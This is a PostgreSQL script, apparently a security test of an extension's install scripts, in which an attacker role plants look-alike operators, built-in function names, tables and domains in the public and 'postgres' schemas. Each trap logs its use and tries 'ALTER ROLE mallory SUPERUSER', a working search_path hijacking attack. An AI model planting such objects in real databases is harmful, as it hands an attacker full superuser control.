-- Run as the attacker (mallory) with CREATE on public and on a schema named after the installing
-- role: look-alikes of every operator the scripts use, for every pair of common types, and of
-- every function they call, for common argument types. Each one records that it ran and tries to
-- make mallory a superuser (which works only if a superuser runs it).
\set ON_ERROR_STOP on
CREATE TABLE IF NOT EXISTS public.plant_log (what text, by_role text);
GRANT INSERT, SELECT ON public.plant_log TO PUBLIC;
CREATE OR REPLACE FUNCTION public.plant_hit(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.plant_log VALUES (what, current_user);
    BEGIN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END $$;
DO $$
DECLARE
    schema_name text;
    op text;
    l text;
    r text;
    f text;
    n int := 0;
    types text[] := ARRAY['smallint', 'integer', 'bigint', 'numeric', 'text', 'character varying', 'name', 'date',
                          'timestamp without time zone', 'timestamp with time zone', 'boolean', 'jsonb', 'interval',
                          'oid', 'regrole', '"char"'];
    few text[] := ARRAY['text', 'integer', 'numeric', 'bigint', 'date', 'timestamp with time zone'];
BEGIN
    FOREACH schema_name IN ARRAY ARRAY['public', 'postgres'] LOOP
        FOREACH op IN ARRAY ARRAY['=', '<>', '<', '<=', '>', '>=', '~', '!~', '||', '&&', '+', '-', '*', '/'] LOOP
            FOREACH l IN ARRAY types LOOP
                FOREACH r IN ARRAY types LOOP
                    n := n + 1;
                    EXECUTE pg_catalog.format('CREATE FUNCTION %I.plant_op_%s(%s, %s) RETURNS boolean LANGUAGE sql AS %L',
                                   schema_name, n, l, r, pg_catalog.format('SELECT public.plant_hit(%L)', pg_catalog.concat(schema_name, '.', op)));
                    EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.plant_op_%s)',
                                   schema_name, op, l, r, schema_name, n);
                END LOOP;
            END LOOP;
        END LOOP;
        FOREACH f IN ARRAY ARRAY['now', 'length', 'isfinite', 'daterange', 'num_nonnulls', 'count', 'sum', 'max', 'min',
                                 'round', 'format', 'to_char', 'jsonb_build_object', 'jsonb_strip_nulls', 'left', 'lpad',
                                 'make_date', 'date_part', 'generate_series', 'string_agg', 'jsonb_agg', 'current_setting',
                                 'pg_has_role', 'timezone', 'strpos', 'abs', 'array_to_string', 'set_config', 'to_regrole',
                                 'quote_ident', 'unnest', 'jsonb_array_elements', 'md5', 'clock_timestamp', 'pg_sleep',
                                 'pg_extension_config_dump', 'textregexeq', 'int8eq'] LOOP
            n := n + 1;
            EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I() RETURNS integer LANGUAGE sql AS %L',
                           schema_name, f, pg_catalog.format('SELECT 1 WHERE public.plant_hit(%L)', pg_catalog.concat(schema_name, '.', f, '()')));
            FOREACH l IN ARRAY types LOOP
                EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE sql AS %L',
                               schema_name, f, l, l, pg_catalog.format('SELECT $1 WHERE public.plant_hit(%L)', pg_catalog.concat(schema_name, '.', f)));
            END LOOP;
            FOREACH l IN ARRAY few LOOP
                FOREACH r IN ARRAY few LOOP
                    EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s, %s) RETURNS %s LANGUAGE sql AS %L',
                                   schema_name, f, l, r, l, pg_catalog.format('SELECT $1 WHERE public.plant_hit(%L)', pg_catalog.concat(schema_name, '.', f)));
                END LOOP;
            END LOOP;
        END LOOP;
        -- Tables and types named like the extension's and the built-ins.
        FOREACH f IN ARRAY ARRAY['companies', 'calls', 'appointments', 'billing_periods', 'pricing_plans', 'usage_daily',
                                 'invoices', 'invoice_lines', 'viewer_companies', 'audit_log'] LOOP
            EXECUTE pg_catalog.format('CREATE TABLE %I.%I (id bigint, company_id bigint)', schema_name, f);
        END LOOP;
        FOREACH f IN ARRAY ARRAY['numeric', 'text', 'date', 'jsonb', 'charge'] LOOP
            EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS integer CHECK (public.plant_hit(%L))', schema_name, f, pg_catalog.concat(schema_name, '.', f));
        END LOOP;
    END LOOP;
END
$$;
